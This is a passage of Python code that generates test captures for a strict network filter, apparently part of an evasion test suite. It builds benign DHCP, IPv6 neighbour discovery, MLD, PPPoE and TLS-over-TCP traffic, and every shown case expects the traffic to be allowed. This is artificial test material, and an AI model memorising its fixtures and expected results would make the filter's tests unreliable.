    zeros to pad_to bytes (ISC dhclient: BOOTP's 300)."""
    m = (struct.pack("!BBBBIHH", 1, 1, 6, 0, xid, 0, flags) + b"\x00" * 16
         + bytes.fromhex(mac.replace(":", "")) + b"\x00" * 10 + b"\x00" * 192 + b"\x63\x82\x53\x63"
         + b"".join(bytes([c, len(v)]) + v for c, v in opts) + b"\xff")
    return m + b"\x00" * max(0, pad_to - len(m))


def dhcp4_frame(mac, msg):
    return (Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255", ttl=64)
            / UDP(sport=68, dport=67) / Raw(msg))


@case
def case_rt10f_dhcp_ok(n):
    """Must-allow twin of rt10f_dhcp_opts: before an e2m session the strict host's DHCP
    clients broadcast what real ones send from 0.0.0.0: ISC dhclient's DISCOVER and
    REQUEST (host name, 13 parameters asked, padded to 300 bytes), Windows 10's (client
    identifier, host name, FQDN, vendor class "MSFT 5.0", 14 parameters, broadcast
    flag), systemd-networkd's (a DUID client identifier, maximum size 576) and dhcpcd's
    (its 56-byte vendor class, rapid commit, FORCERENEW nonce). All pass whole."""
    gw = bytes([10, 10, 1, 1])
    want = bytes([10, 10, 1, 10])

    def frames(mac):
        hw = bytes.fromhex(mac.replace(":", ""))
        prl = bytes([1, 28, 2, 3, 15, 6, 119, 12, 44, 47, 26, 121, 42])
        win_prl = bytes([1, 3, 6, 15, 31, 33, 43, 44, 46, 47, 119, 121, 249, 252])
        host = b"strict-ws10"
        fqdn = b"\x00\x00\x00" + b"DESKTOP-4F2K9QJ.customs.example"
        duid = b"\xff" + b"\x5d\x1c\x8e\x21" + b"\x00\x02\x00\x00\xab\x11" + bytes.fromhex("7c3d5e9a0b1f4c62")
        dhcpcd_vc = b"dhcpcd-10.0.6:Linux-6.8.0-45-generic:x86_64:GenuineIntel"
        msgs = [
            dhcp4_msg(mac, 0x3903f326, [(53, b"\x01"), (50, want), (12, host), (55, prl)], pad_to=300),
            dhcp4_msg(mac, 0x3903f326, [(53, b"\x03"), (54, gw), (50, want), (12, host), (55, prl)], pad_to=300),
            dhcp4_msg(mac, 0x8a4c1e07, [(53, b"\x01"), (116, b"\x01"), (61, b"\x01" + hw), (50, want),
                                        (12, b"DESKTOP-4F2K9QJ"), (81, fqdn), (60, b"MSFT 5.0"), (55, win_prl)],
                      flags=0x8000),
            dhcp4_msg(mac, 0x8a4c1e08, [(53, b"\x03"), (61, b"\x01" + hw), (50, want), (54, gw),
                                        (12, b"DESKTOP-4F2K9QJ"), (81, fqdn), (60, b"MSFT 5.0"), (55, win_prl)],
                      flags=0x8000),
            dhcp4_msg(mac, 0x1d2e3f40, [(53, b"\x01"), (57, b"\x02\x40"), (61, duid), (12, host),
                                        (55, bytes([1, 3, 6, 12, 15, 28, 42, 119, 121]))]),
            dhcp4_msg(mac, 0x55aa0102, [(53, b"\x01"), (61, b"\x01" + hw), (57, b"\x05\xdc"), (60, dhcpcd_vc),
                                        (12, host), (80, b""), (145, b"\x01"),
                                        (55, bytes([1, 121, 33, 3, 6, 12, 15, 26, 28, 51, 54, 58, 59, 119]))]),
        ]
        for m in msgs:
            yield dhcp4_frame(mac, m), m
    return link_ok_flow(n, 55200, False, frames)


def dhcp6_frames(mac, msgs):
    """Each DHCPv6 client message from the strict host's link-local address to
    All_DHCP_Relay_Agents_and_Servers, with the message as its PASS marker."""
    for m in msgs:
        yield (Ether(src=mac, dst="33:33:00:01:00:02")
               / IPv6(src="fe80::95:b3ff:fe18:e938", dst="ff02::1:2", hlim=1)
               / UDP(sport=546, dport=547) / Raw(m)), m


def dhcp6_opt(code, val):
    return struct.pack("!HH", code, len(val)) + val


@case
def case_rt10f_dhcp6_ok(n):
    """Must-allow twin of rt10f_dhcp6_opts: the strict host's DHCPv6 clients to ff02::1:2
    from its link-local address: Windows 10's Solicit (elapsed time, a DUID-LLT, IA_NA,
    FQDN, vendor class 311 "MSFT 5.0", ORO), NetworkManager's (DUID-UUID, IA_NA and IA_PD,
    FQDN, rapid commit, ORO of 7), dhclient's Request (server identifier, an IA_NA with
    the address offered). All pass whole."""
    def frames(mac):
        hw = bytes.fromhex(mac.replace(":", ""))
        llt = struct.pack("!HHI", 1, 1, 0x2c8f1a3b) + hw
        uuid = struct.pack("!H", 4) + bytes.fromhex("4c4c4544003510808053b8c04f563532")
        srv = struct.pack("!HH", 3, 1) + bytes.fromhex("020000000001")
        name = b"\x0fDESKTOP-4F2K9QJ\x07customs\x07example\x00"
        msgs = [
            bytes([1]) + b"\x7a\x31\x09" + dhcp6_opt(8, b"\x00\x00") + dhcp6_opt(1, llt)
            + dhcp6_opt(3, struct.pack("!III", 0x0e7c3d5e, 0, 0)) + dhcp6_opt(39, b"\x00" + name)
            + dhcp6_opt(16, struct.pack("!IH", 311, 8) + b"MSFT 5.0")
            + dhcp6_opt(6, struct.pack("!HHHH", 17, 23, 24, 39)),
            bytes([1]) + b"\x4e\x02\x91" + dhcp6_opt(1, uuid) + dhcp6_opt(8, b"\x00\x00")
            + dhcp6_opt(3, struct.pack("!III", 0x9a0b1f4c, 0, 0))
            + dhcp6_opt(25, struct.pack("!III", 0x9a0b1f4d, 0, 0)
                        + dhcp6_opt(26, struct.pack("!IIB", 0, 0, 56) + b"\x00" * 16))
            + dhcp6_opt(39, b"\x01\x0bstrict-ws10\x00") + dhcp6_opt(14, b"")
            + dhcp6_opt(6, struct.pack("!7H", 23, 24, 56, 82, 83, 103, 39)),
            bytes([3]) + b"\x11\x22\x33" + dhcp6_opt(1, llt) + dhcp6_opt(2, srv)
            + dhcp6_opt(3, struct.pack("!III", 0x0e7c3d5e, 0, 0)
                        + dhcp6_opt(5, bytes.fromhex("20010db800e200000000000000000010") + struct.pack("!II", 7200, 7500)))
            + dhcp6_opt(8, b"\x00\x64") + dhcp6_opt(6, struct.pack("!HH", 23, 24)),
        ]
        yield from dhcp6_frames(mac, msgs)
    return link_ok_flow(n, 55201, True, frames)


@case
def case_rt10f_nd_ok(n):
    """Must-allow twin of rt10f_nd_opts: the strict host's neighbour discovery as Linux
    and Windows send it: a DAD probe from :: with a nonce (RFC 7527), an address
    resolution NS with its link-layer address, an unsolicited NA with the target's, an RS,
    and an inside router's RA (link-layer address, MTU, a prefix, RDNSS, DNSSL). All pass
    whole."""
    from scapy.layers.inet6 import (ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_RS, ICMPv6NDOptDNSSL,
                                    ICMPv6NDOptDstLLAddr, ICMPv6NDOptMTU, ICMPv6NDOptPrefixInfo,
                                    ICMPv6NDOptRDNSS, ICMPv6NDOptSrcLLAddr)

    def frames(mac):
        ll = "fe80::95:b3ff:fe18:e938"
        nonce = bytes([14, 1]) + bytes.fromhex("5ac31f0e92d7")
        pkts = [
            (Ether(src=mac, dst="33:33:ff:00:00:10"),
             IPv6(src="::", dst="ff02::1:ff00:10", hlim=255) / ICMPv6ND_NS(tgt=S6) / Raw(nonce)),
            (Ether(src=mac, dst="33:33:ff:00:00:01"),
             IPv6(src=S6, dst="ff02::1:ff00:1", hlim=255) / ICMPv6ND_NS(tgt="2001:db8:e2::1")
             / ICMPv6NDOptSrcLLAddr(lladdr=mac)),
            (Ether(src=mac, dst="33:33:00:00:00:01"),
             IPv6(src=ll, dst="ff02::1", hlim=255) / ICMPv6ND_NA(tgt=S6, R=0, S=0, O=1)
             / ICMPv6NDOptDstLLAddr(lladdr=mac)),
            (Ether(src=mac, dst="33:33:00:00:00:02"),
             IPv6(src=ll, dst="ff02::2", hlim=255) / ICMPv6ND_RS() / ICMPv6NDOptSrcLLAddr(lladdr=mac)),
            (Ether(src=mac, dst="33:33:00:00:00:01"),
             IPv6(src=ll, dst="ff02::1", hlim=255) / ICMPv6ND_RA(routerlifetime=0)
             / ICMPv6NDOptSrcLLAddr(lladdr=mac) / ICMPv6NDOptMTU(mtu=1500)
             / ICMPv6NDOptPrefixInfo(prefixlen=64, prefix="2001:db8:e2:1::")
             / ICMPv6NDOptRDNSS(lifetime=600, dns=["2001:db8:e2:1::53"])
             / ICMPv6NDOptDNSSL(lifetime=600, searchlist=["customs.example."])),
        ]
        for e, p in pkts:
            yield e / p, bytes(p)[40:]
    return link_ok_flow(n, 55202, True, frames)


@case
def case_rt10f_mld_ok(n):
    """Must-allow twin of rt10f_mld_opts: the strict host's MLD as Linux and Windows send
    it (a Hop-by-Hop Router Alert): MLDv2 reports of several records (mDNS, LLMNR, its
    solicited-node group, a source-specific group with two sources), one from :: during
    DAD, an MLDv1 report and done. All pass whole."""
    from scapy.layers.inet6 import (ICMPv6MLDMultAddrRec, ICMPv6MLDone, ICMPv6MLReport, ICMPv6MLReport2,
                                    RouterAlert)

    def frames(mac):
        ll = "fe80::95:b3ff:fe18:e938"
        recs = [ICMPv6MLDMultAddrRec(rtype=4, dst="ff02::fb"), ICMPv6MLDMultAddrRec(rtype=4, dst="ff02::1:3"),
                ICMPv6MLDMultAddrRec(rtype=4, dst="ff02::1:ff18:e938"),
                ICMPv6MLDMultAddrRec(rtype=1, dst="ff3e::8000:1234", sources=["2001:db8:e2e::5", "2001:db8:e2e::6"])]
        pkts = [
            (IPv6(src=ll, dst="ff02::16", hlim=1) / IPv6ExtHdrHopByHop(options=[RouterAlert()])
             / ICMPv6MLReport2(records=recs), "33:33:00:00:00:16"),
            (IPv6(src="::", dst="ff02::16", hlim=1) / IPv6ExtHdrHopByHop(options=[RouterAlert()])
             / ICMPv6MLReport2(records=[ICMPv6MLDMultAddrRec(rtype=4, dst="ff02::1:ff00:10")]), "33:33:00:00:00:16"),
            (IPv6(src=ll, dst="ff02::fb", hlim=1) / IPv6ExtHdrHopByHop(options=[RouterAlert()])
             / ICMPv6MLReport(mladdr="ff02::fb"), "33:33:00:00:00:fb"),
            (IPv6(src=ll, dst="ff02::2", hlim=1) / IPv6ExtHdrHopByHop(options=[RouterAlert()])
             / ICMPv6MLDone(mladdr="ff02::fb"), "33:33:00:00:00:02"),
        ]
        for p, dst in pkts:
            yield Ether(src=mac, dst=dst) / p, bytes(p)[48:]
    return link_ok_flow(n, 55203, True, frames)


@case
def case_rt10f_pppoe_ok(n):
    """Must-allow twin of rt10f_pppoe_padi_tag: pppd's PPPoE discovery from the strict
    host: a PADI with Service-Name, an 8-byte Host-Uniq, a Relay-Session-Id and
    PPP-Max-Payload (RFC 4638), a PADR to the concentrator with its AC-Cookie, and a
    PADT. All pass whole."""
    def frames(mac):
        def tag(t, v):
            return struct.pack("!HH", t, len(v)) + v
        uniq = bytes.fromhex("8e0a3c51d2f94b07")
        pkts = [
            ("ff:ff:ff:ff:ff:ff", 0x09, 0, tag(0x0101, b"internet") + tag(0x0103, uniq)
             + tag(0x0110, bytes.fromhex("0a0a01fe00000c2a00000001")) + tag(0x0120, b"\x05\xdc")),
            ("02:00:00:00:fe:01", 0x19, 0, tag(0x0101, b"internet") + tag(0x0103, uniq)
             + tag(0x0104, bytes.fromhex("5e4b1a2c0f6d7e8f9a0b1c2d3e4f5061"))),
            ("02:00:00:00:fe:01", 0xa7, 0x1234, tag(0x0103, uniq)),
        ]
        for dst, code, sid, tags in pkts:
            pppoe = struct.pack("!BBHH", 0x11, code, sid, len(tags)) + tags
            yield Ether(bytes(Ether(src=mac, dst=dst, type=0x8863)) + pppoe), pppoe
    return link_ok_flow(n, 55204, False, frames)


# --- rt25: false-block hunt (honest behaviours of real stacks; every case must allow)
# Paste before `def main` in tests/evasion/gen.py. Ports 51001..51099, ISNs 5100x.

M32 = 0xFFFFFFFF


class Rt25Tcp(ETcp):
    """ETcp whose sequence and acknowledgement numbers wrap at 2^32 (the
    helpers count them as Python ints), with per-direction IP fields (TTL,
    TOS) and an optional timestamp clock per side that wraps too."""

    def __init__(self, *a, ts=None, ipkw_c=None, ipkw_s=None, **kw):
        super().__init__(*a, **kw)
        self.tsc = ts  # None, or {True: client clock, False: server clock}
        self.ipkw_c = ipkw_c or {}
        self.ipkw_s = ipkw_s or {}

    def tsopt(self, from_client, bump=True):
        if self.tsc is None:
            return []
        mine = self.tsc[from_client] & M32
        echo = (self.tsc[not from_client] - 1) & M32
        if bump:
            self.tsc[from_client] += 1
        return [("NOP", None), ("NOP", None), ("Timestamp", (mine, echo))]

    def raw(self, from_client, flags, payload=b"", seq=None, ack=None, ipkw=None, tcpkw=None,
            options=None, frag=None, gap=None, window=64240):
        if seq is None:
            seq = self.cseq if from_client else self.sseq
        if ack is None:
            ack = self.sseq if from_client else self.cseq
        kw = dict(self.ipkw_c if from_client else self.ipkw_s)
        kw.update(ipkw or {})
        if options is None and "S" not in flags:
            options = self.tsopt(from_client)
        return super().raw(from_client, flags, payload, seq=seq & M32, ack=ack & M32, ipkw=kw,
                           tcpkw=tcpkw, options=options, frag=frag, gap=gap, window=window)

    def frame(self, from_client, flags, payload=b"", seq=None, ack=None, options=None, gap=None):
        # gen_replay's Tcp helpers (data, send, ack, close) go through frame()
        self.raw(from_client, flags, payload, seq=seq, ack=ack, options=options, gap=gap)

    def handshake(self, gap=None, syn_opts=None, synack_opts=None, syn_flags="S", synack_flags="SA"):
        if syn_opts is None:
            syn_opts = [("MSS", 1460), ("SAckOK", b"")]
            if self.tsc is not None:
                syn_opts += [("Timestamp", (self.tsc[True] & M32, 0))]
            syn_opts += [("NOP", None), ("WScale", 7)]
        if self.tsc is not None:
            self.tsc[True] += 1
        self.raw(True, syn_flags, options=syn_opts, gap=gap)
        self.cseq += 1
        if synack_opts is None:
            synack_opts = [("MSS", 1460), ("SAckOK", b"")]
            if self.tsc is not None:
                synack_opts += [("Timestamp", (self.tsc[False] & M32, (self.tsc[True] - 1) & M32))]
            synack_opts += [("NOP", None), ("WScale", 7)]
        if self.tsc is not None:
            self.tsc[False] += 1
        self.raw(False, synack_flags, options=synack_opts)
        self.sseq += 1
        self.raw(True, "A")


def rt25_session(cap, cport, cseq, sseq, seed, c=S1, s=E2M, sport=443, hello_bytes=None, **kw):
    """An e2m TLS 1.3 session up to the first exchange of application data,
    with the client's and the server's initial sequence numbers given."""
    t = Rt25Tcp(cap, c, cport, s, sport, rtt_us=20000, **kw)
    t.cseq, t.sseq = cseq, sseq
    t.handshake()
    t.data(True, hello(seed) if hello_bytes is None else hello_bytes)
    t.data(False, server_hello_flight(seed))
    t.data(True, CCS + tls_appdata(seed + "fin", 53))
    t.data(True, tls_appdata(seed + "req", 180))
    t.data(False, tls_appdata(seed + "resp", 700))
    return t


def rt25_bulk(t, from_client, data, mss=1448):
    """data in full-size segments from one side, the other side ACKing every second one."""
    base = t.cseq if from_client else t.sseq
    k = 0
    for i in range(0, len(data), mss):
        seg = data[i:i + mss]
        t.raw(from_client, "PA" if i + mss >= len(data) else "A", seg, seq=base + i, gap=300)
        k += 1
        if k % 2 == 0 or i + mss >= len(data):
            if from_client:
                t.raw(False, "A", ack=base + i + len(seg), gap=300)
            else:
                t.raw(True, "A", ack=base + i + len(seg), gap=300)
    if from_client:
        t.cseq = base + len(data)
    else:
        t.sseq = base + len(data)


@case
def case_seqwrap_ok(n):
    """Both sequence spaces wrap past 2^32 during the session (RFC 9293: sequence
    numbers are modulo 2^32). Every stack picks a random ISN (RFC 6528), so a
    session that moves D bytes wraps with probability D/2^32 per direction: one
    in ~4000 sessions of 1 MB, one in 40 of 100 MB. Client ISN 2^32-2000, server
    ISN 2^32-3000: the ClientHello, the server's flight and later records cross
    the wrap."""
    cap = Capture()
    t = rt25_session(cap, 52001, (1 << 32) - 2000, (1 << 32) - 3000, n)
    up = marked_record(passm(n), n + "up", 3000) + tls_appdata(n + "up2", 2000)
    rt25_bulk(t, True, up)
    down = tls_appdata(n + "d1", 5000) + marked_record(passm(n) + b"dn", n + "d2", 4000)
    rt25_bulk(t, False, down)
    t.data(True, tls_appdata(n + "last", 90))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"dn"]}


@case
def case_tswrap_ok(n):
    """Both sides use TCP timestamps and both clocks wrap past 2^32 during the
    session (RFC 7323 5.2: compared modulo 2^32). Linux gives each connection a
    random timestamp offset (since 4.10), so the clock starts anywhere; at 1 kHz
    it wraps every 49.7 days, i.e. a session of an hour wraps with probability
    ~1/1200."""
    cap = Capture()
    ts = {True: (1 << 32) - 6, False: (1 << 32) - 9}
    t = rt25_session(cap, 52002, 52002, 71002, n, ts=ts)
    for k in range(4):
        t.data(True, marked_record(passm(n) + b"%d" % k, n + "c%d" % k, 300))
        t.data(False, tls_appdata(n + "s%d" % k, 600))
    t.close()
    return cap, {"pass": [passm(n) + b"%d" % k for k in range(4)]}


@case
def case_synproxy_ttl_ok(n):
    """The server sits behind a SYN proxy (iptables SYNPROXY, F5 SYN check, a DDoS
    scrubber): the proxy itself answers the SYN (its own TTL 64), then forwards the
    real server's segments, which arrive one hop lower than the SYN-ACK did. The
    responder's data thus always carries a lower TTL than its SYN-ACK."""
    cap = Capture()
    t = Rt25Tcp(cap, S1, 52003, E2M, 443, rtt_us=20000)
    t.cseq, t.sseq = 52003, 81003
    t.ipkw_s = {"ttl": 52}
    t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7)])
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7)])
    t.sseq += 1
    t.raw(True, "A")
    t.ipkw_s = {"ttl": 51}
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, marked_record(passm(n) + b"resp", n + "resp", 700))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"resp"]}


@case
def case_route_ttl_ok(n):
    """A long-lived e2m session during which the Internet route from the server
    changes (BGP reconvergence, a link failure): its segments arrive one hop
    lower from then on. Nothing else changes; the server keeps sending records."""
    cap = Capture()
    t = rt25_session(cap, 52004, 52004, 81004, n, ipkw_s={"ttl": 50})
    t.data(True, tls_appdata(n + "a", 200))
    t.data(False, tls_appdata(n + "b", 900))
    cap.idle(30)
    t.ipkw_s = {"ttl": 49}
    t.data(True, marked_record(passm(n), n + "c", 200))
    t.data(False, marked_record(passm(n) + b"srv", n + "d", 900))
    t.data(True, tls_appdata(n + "e", 100))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_rst_cross_ok(n):
    """The client (Chrome, Windows curl, a Java pool evicting a connection) sends
    its close_notify and closes the socket with SO_LINGER 0 or with unread data:
    a RST right after. The server's response records and its close_notify, sent
    before the RST reached it, cross it and arrive after it (the client's kernel
    answers them with RSTs). Nothing new is read by anybody."""
    cap = Capture()
    t = rt25_session(cap, 52005, 52005, 81005, n)
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(True, record(21, prand(n + "cn", 19), 0x0303))
    t.raw(True, "RA")
    t.send(False, tls_appdata(n + "late", 500))
    t.send(False, record(21, prand(n + "scn", 19), 0x0303))
    t.raw(True, "R", seq=t.cseq)
    t.raw(False, "FA")
    t.raw(True, "R", seq=t.cseq)
    return cap, {"pass": [passm(n)]}


@case
def case_fin_cross_ok(n):
    """A common close: the client sends close_notify and FIN and closes its socket
    (curl, Go's http.Transport). The server's last record (a NewSessionTicket or
    the tail of a response), sent before the FIN reached it, arrives after the
    FIN; the client's kernel, whose socket is gone, answers it with a RST; the
    server's own close_notify and FIN come after that RST."""
    cap = Capture()
    t = rt25_session(cap, 52006, 52006, 81006, n)
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.raw(True, "PA", record(21, prand(n + "cn", 19), 0x0303))
    t.cseq += 24
    t.raw(True, "FA")
    t.cseq += 1
    t.send(False, tls_appdata(n + "ticket", 250))
    t.raw(True, "R", seq=t.cseq, ack=0)
    t.send(False, record(21, prand(n + "scn", 19), 0x0303))
    t.raw(False, "FA")
    t.raw(True, "R", seq=t.cseq, ack=0)
    return cap, {"pass": [passm(n)]}


@case
def case_fin_data_ok(n):
    """close_notify and FIN in one segment from each side (Linux sends the FIN
    with the last bytes when the application writes and closes at once)."""
    cap = Capture()
    t = rt25_session(cap, 52007, 52007, 81007, n)
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 800))
    cn = record(21, prand(n + "cn", 19), 0x0303)
    t.raw(True, "FPA", cn)
    t.cseq += len(cn) + 1
    scn = record(21, prand(n + "scn", 19), 0x0303)
    t.raw(False, "FPA", scn)
    t.sseq += len(scn) + 1
    t.raw(True, "A")
    return cap, {"pass": [passm(n)]}


@case
def case_keepalive_linux_ok(n):
    """An idle e2m connection held open by TCP keep-alive (Chrome sets 45 s on its
    sockets, Java/Go pools 15-30 s): Linux's probe is a bare ACK at snd_nxt-1 with a
    fresh timestamp, the server answers with an ACK; three rounds, then more records."""
    cap = Capture()
    t = rt25_session(cap, 52008, 52008, 81008, n, ts={True: 700000, False: 900000})
    for k in range(3):
        cap.idle(45)
        t.tsc[True] += 45000
        t.raw(True, "A", seq=t.cseq - 1)
        t.tsc[False] += 45000
        t.raw(False, "A")
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, marked_record(passm(n) + b"srv", n + "resp", 600))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_keepalive_win_ok(n):
    """The same with Windows' probe: one byte (0x00, not the byte sent there) at
    snd_nxt-1, no timestamps (Windows' default), the server's ACK, then both sides'
    records again. The server sends its own keep-alives too (nginx so_keepalive,
    IIS): Linux's bare ACK at snd_nxt-1."""
    cap = Capture()
    t = rt25_session(cap, 52009, 52009, 81009, n)
    for k in range(3):
        cap.idle(45)
        t.raw(True, "A", b"\x00", seq=t.cseq - 1)
        t.raw(False, "A")
        t.raw(False, "A", seq=t.sseq - 1, gap=5000000)
        t.raw(True, "A")
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, marked_record(passm(n) + b"srv", n + "resp", 600))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


def rt25_chrome_hello(seed, sni=E2M_NAME, ech=True):
    """A Chrome 131+ ClientHello: GREASE cipher, group, version and extensions,
    X25519MLKEM768 (0x11ec, a 1216-byte share) and X25519 key shares, ALPS,
    certificate compression, SCT, OCSP, GREASE ECH. About 1.8 KB: two segments."""
    grease_c, grease_g, grease_e1, grease_e2, grease_v = 0x0A0A, 0x3A3A, 0x5A5A, 0x9A9A, 0x7A7A
    ciphers = struct.pack("!16H", grease_c, 0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030,
                          0xCCA9, 0xCCA8, 0xC013, 0xC014, 0x009C, 0x009D, 0x002F, 0x0035)
    groups = struct.pack("!6H", 10, grease_g, 0x11EC, 29, 23, 24)
    sigs = struct.pack("!8H", 0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601)
    mlkem = prand(seed + "mlkem", 1216)
    x25519 = prand(seed + "x", 32)
    shares = (struct.pack("!HH", grease_g, 1) + b"\x00"
              + struct.pack("!HH", 0x11EC, len(mlkem)) + mlkem
              + struct.pack("!HH", 29, 32) + x25519)
    alpn = b"\x02h2\x08http/1.1"
    ech_body = (b"\x00" + struct.pack("!HH", 1, 1) + bytes([prand(seed + "cid", 1)[0]])
                + struct.pack("!H", 32) + prand(seed + "enc", 32)
                + struct.pack("!H", 208) + prand(seed + "echp", 208))
    exts = [
        ext(grease_e1, b""),
        ext(0x001B, b"\x02\x00\x02"),                                  # compress_certificate: brotli
        ext(0x0000, struct.pack("!H", len(sni) + 3) + b"\x00" + struct.pack("!H", len(sni)) + sni.encode()),
        ext(0x0012, b""),                                              # signed_certificate_timestamp
        ext(0x0023, b""),                                              # session_ticket
        ext(0x002D, b"\x01\x01"),                                      # psk_key_exchange_modes
        ext(0x000A, groups),
        ext(0x0033, struct.pack("!H", len(shares)) + shares),
        ext(0x0017, b""),                                              # extended_master_secret
        ext(0x002B, b"\x06" + struct.pack("!3H", grease_v, 0x0304, 0x0303)),
        ext(0x000D, struct.pack("!H", len(sigs)) + sigs),
        ext(0x44CD, b"\x00\x03\x02h2"),                                # application_settings (ALPS)
        ext(0xFF01, b"\x00"),                                          # renegotiation_info
        ext(0x0005, b"\x01\x00\x00\x00\x00"),                          # status_request
        ext(0x0010, struct.pack("!H", len(alpn)) + alpn),
        ext(0x000B, b"\x01\x00"),                                      # ec_point_formats
    ]
    if ech:
        exts.append(ext(0xFE0D, ech_body))
    exts.append(ext(grease_e2, b"\x00"))
    eb = b"".join(exts)
    body = (b"\x03\x03" + prand(seed + "r", 32) + b"\x20" + prand(seed + "s", 32)
            + struct.pack("!H", len(ciphers)) + ciphers + b"\x01\x00" + struct.pack("!H", len(eb)) + eb)
    return record(22, b"\x01" + struct.pack("!I", len(body))[1:] + body)


@case
def case_chrome_pq_ok(n):
    """Chrome (131+), Edge and Firefox (132+) send an X25519MLKEM768 key share by
    default: a ClientHello of about 1.8 KB, in two segments (1448 + the rest), with
    GREASE and a GREASE ECH extension. Every current browser session looks so."""
    cap = Capture()
    h = rt25_chrome_hello(n)
    assert 1448 < len(h) < 2896
    t = Rt25Tcp(cap, S1, 52010, E2M, 443, rtt_us=20000)
    t.cseq, t.sseq = 52010, 81010
    t.handshake()
    t.raw(True, "A", h[:1448])
    t.raw(True, "PA", h[1448:], seq=t.cseq + 1448)
    t.cseq += len(h)
    t.ack(False)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 300))
    t.data(False, tls_appdata(n + "resp", 900))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_ecn_ok(n):
    """ECN (RFC 3168), on by default for outgoing connections on macOS and iOS
    (since 10.13/11) and offered back by Linux and Windows servers: a SYN with ECE
    and CWR, a SYN-ACK with ECE, data in ECT(0) packets, a router marks one of the
    server's segments CE, the client's ACKs echo ECE, the server's next segment
    carries CWR. macOS SYN options end with EOL."""
    cap = Capture()
    t = Rt25Tcp(cap, S1, 52011, E2M, 443, rtt_us=20000, ipkw_c={"tos": 2}, ipkw_s={"tos": 2})
    t.cseq, t.sseq = 52011, 81011
    t.tsc = {True: 3000000, False: 4000000}
    syn = [("MSS", 1460), ("NOP", None), ("WScale", 6), ("NOP", None), ("NOP", None),
           ("Timestamp", (3000000, 0)), ("SAckOK", b""), ("EOL", None)]
    t.tsc[True] += 1
    t.raw(True, "SEC", options=syn, ipkw={"tos": 0})
    t.cseq += 1
    t.tsc[False] += 1
    t.raw(False, "SAE", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (4000000, 3000000)),
                                 ("NOP", None), ("WScale", 7)], ipkw={"tos": 0})
    t.sseq += 1
    t.raw(True, "A", ipkw={"tos": 0})
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, tls_appdata(n + "req", 200))
    resp = tls_appdata(n + "resp", 3000)
    base = t.sseq
    t.raw(False, "A", resp[:1448], seq=base)
    t.raw(False, "A", resp[1448:2896], seq=base + 1448, ipkw={"tos": 3})   # CE
    t.raw(False, "PA", resp[2896:], seq=base + 2896)
    t.sseq = base + len(resp)
    t.raw(True, "AE", ack=base + 2896)
    t.raw(True, "AE")
    rec = marked_record(passm(n) + b"srv", n + "more", 400)
    t.raw(False, "PAC", rec)
    t.sseq += len(rec)
    t.raw(True, "A")
    t.data(True, marked_record(passm(n), n + "req2", 200))
    t.close()
    return cap, {"pass": [passm(n), passm(n) + b"srv"]}


@case
def case_ack_in_hello_ok(n):
    """The handshake's third ACK is lost before us (or never sent on its own: a
    client that writes at once), so the first segment after the SYN-ACK is the
    ClientHello, which carries the ACK. The server's stack takes it (RFC 9293 3.10.7.4)."""
    cap = Capture()
    t = Rt25Tcp(cap, S1, 52012, E2M, 443, rtt_us=20000)
    t.cseq, t.sseq = 52012, 81012
    t.raw(True, "S", options=Tcp.SYN_OPTS)
    t.cseq += 1
    t.raw(False, "SA", options=Tcp.SYN_OPTS)
    t.sseq += 1
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_synopts_ok(n):
    """Honest SYN options a strict reader might refuse: a TCP Fast Open cookie
    request (kind 34, no data: Linux with TCP_FASTOPEN_CONNECT, curl --tcp-fastopen,
    Chrome on Android), an MPTCP MP_CAPABLE (kind 30: iOS, Linux mptcpd), which the
    server ignores (its SYN-ACK carries neither), so both fall back to plain TCP."""
    cap = Capture()
    t = Rt25Tcp(cap, S1, 52013, E2M, 443, rtt_us=20000)
    t.cseq, t.sseq = 52013, 81013
    syn = [("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7), ("TFO", b""),
           (30, b"\x01\x81" + prand(n + "mpk", 8))]
    t.handshake(syn_opts=syn)
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(passm(n), n + "req", 200))
    t.data(False, tls_appdata(n + "resp", 500))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_smtps_sni_ok(n):
    """SMTPS on 465 (implicit TLS, RFC 8314) as Thunderbird and Outlook send it: a
    ClientHello for mail.customs.example, the handshake, records."""
    cap = Capture()
    tls_flow(cap, S1, 52016, MAIL, 52016, n, send_whole(hello(n, sni="mail.customs.example")),
             passm(n), sport=465)
    return cap, {"pass": [passm(n)]}


@case
def case_smtps_nosni_ok(n):
    """SMTPS on 465 from an MTA: Postfix (smtp_tls_wrappermode, smtp_tls_servername
